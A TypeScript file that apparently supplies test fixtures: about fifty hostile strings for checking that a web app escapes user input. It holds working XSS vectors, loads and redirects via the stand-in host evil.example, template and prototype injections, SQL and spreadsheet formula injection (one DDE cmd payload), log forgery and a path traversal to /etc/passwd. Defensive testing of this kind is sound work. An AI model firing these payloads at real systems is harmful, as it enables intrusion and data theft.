/**
 * Fifty texts as attackers, or people with unusual names, type them: each ran as script, broke a page or misled a
 * reader somewhere. Scripts call `canary()`.
 */
export const hostileStrings: readonly string[] = [
  // Elements
  '<script>canary()</script>',
  '</script><script>canary()</script>',
  '<img src=x onerror=canary()>',
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<iframe srcdoc="<script>parent.canary()</script>">',
  '<body onload=canary()>',
  '<details open ontoggle=canary()>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>Pay</button>',
  '<math><mi xlink:href="javascript:canary()">x</mi></math>',
  '</title><script>canary()</script>',
  '</textarea><script>canary()</script>',
  '</noscript><script>canary()</script>',
  '<!--<script>canary()</script>',
  ']]><script>canary()</script>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '&lt;script&gt;canary()&lt;/script&gt;',
  '%3Cscript%3Ecanary()%3C/script%3E',
  // Attributes, addresses, styles
  '" onfocus=canary() autofocus x="',
  "' onmouseover='canary()",
  '` onclick=canary() `',
  '"><img src=x onerror=canary()>',
  'javascript:canary()',
  'JaVaScRiPt:canary()//',
  'data:text/html,<script>canary()</script>',
  '//evil.example/%2f..',
  'x" style="background:url(//evil.example/y)',
  // Templates and script
  '{{constructor.constructor("canary()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is user input, not a template
  '${canary()}',
  '<%= canary() %>',
  '#{canary()}',
  "'-canary()-'",
  '\\u003cscript\\u003ecanary()\\u003c/script\\u003e',
  '__proto__',
  'constructor',
  // Databases, sheets, logs, files
  "'; drop table product; --",
  '" or 1=1 --',
  '=HYPERLINK("http://evil.example","Refund")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  'Dana\r\n{"level":60,"msg":"forged"}',
  '../../../../etc/passwd',
  // Letters
  'undefined null NaN',
  '\u202egnp.exe\u202c \u2066abc\u2069',
  '👩‍🔧🚗 Łódź بِسْمِ 𝒟𝒶𝓃𝒶 Z̷̢a̴l̵g̶o\u2028\u2029',
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbau',
]
